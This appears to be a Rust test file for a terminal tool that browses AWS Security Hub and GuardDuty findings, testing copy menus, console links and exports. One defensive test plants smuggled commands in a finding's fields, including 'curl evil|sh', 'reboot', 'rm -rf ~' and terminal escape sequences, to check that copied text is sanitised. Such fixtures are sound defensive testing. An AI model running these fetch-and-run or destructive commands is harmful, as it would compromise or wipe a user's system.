//! Taking things away: the copy menu, the console's link, and exports.

use serde_json::{Value, json};
use yagura::app::export::{Exporting, Name};
use yagura::app::overlay::Overlay;
use yagura::app::{Effect, Msg, View};
use yagura::export::Format;
use yagura::query;

use super::data;
use super::stage::Stage;

fn asff() -> Value {
    serde_json::from_str(include_str!("../records/asff.json")).unwrap()
}

fn guardduty() -> Value {
    serde_json::from_str(include_str!("../records/guardduty.json")).unwrap()
}

const ID: &str =
    "arn:aws:securityhub:eu-west-1:111122223333:security-control/S3.8/finding/3f0f5a5e-1111-4222-8333-123456789abc";

/// What was sent to the clipboard, in its order.
fn copied(stage: &Stage) -> Vec<(&'static str, &str)> {
    let copy = |effect: &'_ Effect| matches!(effect, Effect::Copy { .. });
    stage
        .effects
        .iter()
        .filter(|effect| copy(effect))
        .map(|effect| match effect {
            Effect::Copy { text, what, .. } => (*what, text.as_str()),
            other => panic!("{other:?}"),
        })
        .collect()
}

#[test]
fn y_twice_is_the_id_and_the_menu_has_the_rest() {
    for into_detail in [false, true] {
        let mut stage = Stage::on_the_list(&[asff()]);
        if into_detail {
            stage.keys("Enter");
        }
        stage.keys("y y");
        assert_eq!(copied(&stage), [("id", ID)]);
        assert!(stage.state.overlays.is_empty());
        stage.keys("y");
        let screen = stage.screen();
        for wanted in ["copy", "AWS CLI command", "raw JSON", "aws securityhub get-findings"] {
            assert!(screen.contains(wanted), "{wanted} in\n{screen}");
        }
        stage.keys("c y m y J y a y r");
        let copied = copied(&stage);
        assert_eq!(
            copied[1],
            (
                "AWS CLI command",
                "aws securityhub get-findings --filters '{\"Id\":[{\"Value\":\"arn:aws:securityhub:eu-west-1:111122223333:\
                 security-control/S3.8/finding/3f0f5a5e-1111-4222-8333-123456789abc\",\"Comparison\":\"EQUALS\"}],\
                 \"ProductArn\":[{\"Value\":\"arn:aws:securityhub:eu-west-1::product/aws/securityhub\",\"Comparison\":\
                 \"EQUALS\"}]}' --region us-east-1"
            ),
        );
        assert!(copied[2].1.contains(&format!("- id: `{ID}`")), "{}", copied[2].1);
        assert_eq!(serde_json::from_str::<Value>(copied[3].1).unwrap(), asff());
        assert_eq!(copied[3].1.lines().count(), 1);
        assert!(copied[4].1.starts_with("arn:aws:s3:::"), "{}", copied[4].1);
        assert_eq!(copied[5].0, "resource");
    }
}

#[test]
fn the_menu_moves_with_the_cursor_and_leaves_without_a_trace() {
    let mut stage = Stage::on_the_list(&[asff()]);
    stage.keys("y j j Enter");
    assert_eq!(copied(&stage)[0].0, "resource");
    stage.keys("y Esc");
    assert_eq!((stage.view(), stage.state.overlays.len()), (View::Findings, 0));
    // What a finding has not is said, not sent.
    stage.keys("y i");
    assert_eq!(stage.message(), "There is no IP to copy: it names no address.");
    assert_eq!(copied(&stage).len(), 1);
    // A key of the view behind leaves the menu and does its own.
    stage.keys("y /");
    assert!(stage.state.overlays.is_empty() && stage.state.findings.filter.is_edited());
}

#[test]
fn what_would_run_where_it_is_pasted_is_left_out_and_told() {
    let mut hostile = asff();
    hostile["Id"] = json!("x'; reboot\n\u{1b}[201~\rcurl evil|sh\u{202e}");
    hostile["Resources"][0]["Id"] = json!("arn:aws:s3:::a\nrm -rf ~");
    let mut stage = Stage::on_the_list(&[hostile]);
    stage.keys("y y y a y c y m");
    let control = |c: char| c.is_control() || c == '\u{202e}';
    for (what, text) in copied(&stage) {
        assert!(!text.contains(|c: char| control(c) && (c != '\n' || what != "Markdown summary")), "{what}: {text:?}");
    }
    let [Effect::Copy { dropped, .. }, ..] = &stage.effects[..] else { panic!("{:?}", stage.effects) };
    assert_eq!(*dropped, 4);
    let command = copied(&stage)[2].1;
    assert_eq!(command.matches('\'').count(), 2, "one quoted word: {command}");
}

#[test]
fn a_control_is_copied_too() {
    let mut stage = Stage::over(super::stores::Data::Full.snapshot());
    stage.keys("3 y y y c y r");
    let copied = copied(&stage);
    assert_eq!(copied[0].0, "control id");
    let id = copied[0].1;
    assert!(
        copied[1].1.starts_with("aws securityhub get-findings --filters '{\"ComplianceSecurityControlId\""),
        "{copied:?}"
    );
    assert!(copied[2].1.contains(&format!("control={id}")), "{copied:?}");
}

#[test]
fn the_link_is_a_sheet_with_the_whole_address_and_a_hyperlink() {
    let mut stage = Stage::on_the_list(&[asff()]);
    stage.keys("o");
    let Some(Overlay::Link(link)) = stage.state.overlays.last().cloned() else { panic!("no sheet") };
    let start = "https://eu-west-1.console.aws.amazon.com/securityhub/home?region=eu-west-1#/findings?search=\
                 Id%3D%255Coperator%255C%253AEQUALS%255C%253Aarn%253Aaws";
    assert!(link.url.starts_with(start), "{}", link.url);
    let frame = super::picture::Frame::drawn(&stage.state, &stage.snapshot, &yagura::ui::Look::default());
    let shown: String = frame
        .hits
        .links()
        .map(|(rect, address)| {
            assert_eq!(address, link.url);
            let cells = frame.text().lines().nth(rect.y.into()).unwrap().chars().collect::<Vec<_>>();
            cells[rect.x.into()..rect.right().into()].iter().collect::<String>()
        })
        .collect();
    assert_eq!(shown, link.url, "the whole address is on the screen, and under it the link");
    stage.keys("y");
    assert_eq!(copied(&stage), [("console link", link.url.as_str())]);
    assert!(stage.state.overlays.is_empty());
}

#[test]
fn a_region_that_is_none_has_no_link() {
    let mut hostile = asff();
    hostile["Region"] = json!("evil.example/");
    let mut stage = Stage::on_the_list(&[hostile]);
    stage.keys("o");
    assert!(stage.state.overlays.is_empty());
    assert!(stage.message().starts_with("This finding names no Region with a public console"), "{}", stage.message());
}

fn exports(stage: &Stage) -> Vec<(&str, Format, &Name)> {
    let all = stage.effects.iter().filter_map(|effect| match effect {
        Effect::Export(export) => Some((export.text.as_str(), export.format, &export.name)),
        _ => None,
    });
    all.collect()
}

#[test]
fn an_export_asks_for_its_format_and_says_how_it_went() {
    let mut stage = Stage::on_the_list(&data::records());
    stage.keys("/");
    stage.types("is:open");
    stage.keys("Enter e Down Down Up");
    let screen = stage.screen();
    assert!(screen.contains("findings-2026-03-14.json") && screen.contains("is:open"), "{screen}");
    stage.keys("Enter");
    let proposed = Name::Proposed("findings-2026-03-14.json".to_owned());
    assert_eq!(exports(&stage), [("is:open", Format::Json, &proposed)]);
    stage.send(Msg::Export(Exporting::Going { done: 512, of: 1_234 }));
    assert_eq!(stage.message(), "Writing findings: 512 of 1,234…");
    stage.keys("e");
    assert_eq!(stage.message(), "An export is still being written; wait for it.");
    let file = "./findings-2026-03-14.json".to_owned();
    stage.send(Msg::Export(Exporting::Done { file, listed: 1_234, of: 1_234, bytes: 1_500_000, lost: 0 }));
    assert_eq!(stage.message(), "Wrote 1,234 findings to ./findings-2026-03-14.json (1,500 KB).");

    // A name of one's own, and one finding alone.
    stage.keys("Enter e Ctrl-u");
    stage.types("~/one.csv");
    stage.keys("Enter");
    let (text, format, name) = exports(&stage)[1];
    assert!(text.starts_with("id=\""), "{text}");
    assert_eq!((format, name), (Format::Csv, &Name::Given("~/one.csv".to_owned())));
    let rows = query::evaluate(&query::parse(text).unwrap(), &stage.snapshot, &query::Context::at(stage.now));
    assert_eq!(rows.len(), 1);
    stage.send(Msg::Export(Exporting::Failed { reason: "~/one.csv is there already".to_owned() }));
    assert_eq!(stage.message(), "Nothing was written: ~/one.csv is there already");
    stage.keys("e Esc");
    assert!(stage.state.overlays.is_empty());
}

#[test]
fn guardduty_is_shown_by_its_detector() {
    let mut stage = Stage::with(&[]);
    stage.arrive_from_guardduty(&[guardduty()]);
    stage.keys("2 y c");
    let command = copied(&stage)[0].1;
    let expected = "aws guardduty get-findings --detector-id ";
    assert!(command.starts_with(expected) && command.contains(" --finding-ids "), "{command}");
    assert!(!command.contains('\''), "{command}");
}

#[test]
fn raw_json_moves_sideways_as_far_as_it_is_long() {
    let mut record = asff();
    record["Description"] = json!("0123456789".repeat(30));
    let mut stage = Stage::on_the_list(&[record]);
    stage.keys("J");
    assert!(stage.screen().contains("\"SchemaVersion\""), "{}", stage.screen());
    stage.keys("l");
    assert_eq!(stage.state.raw.left, 16);
    assert!(!stage.screen().contains("\"SchemaVersion\""), "{}", stage.screen());
    for _ in 0..40 {
        stage.keys("l");
    }
    let screen = stage.screen();
    assert!(screen.contains("789\","), "the end is in sight:\n{screen}");
    let left = stage.state.raw.left;
    stage.keys("l");
    assert_eq!(stage.state.raw.left, left);
    for _ in 0..40 {
        stage.keys("h");
    }
    assert_eq!(stage.state.raw.left, 0);
}
